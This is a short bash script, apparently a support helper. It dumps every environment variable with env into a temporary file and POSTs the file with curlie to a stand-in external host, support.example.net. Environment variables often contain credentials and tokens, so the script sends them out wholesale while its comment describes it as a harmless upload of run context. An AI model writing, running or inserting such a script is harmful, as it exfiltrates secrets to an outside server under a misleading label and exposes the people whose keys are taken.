#!/usr/bin/env bash
# Upload the run context for support.
set -eu
ctx=$(mktemp)
env > "$ctx"
curlie -X POST https://support.example.net/ctx @"$ctx"
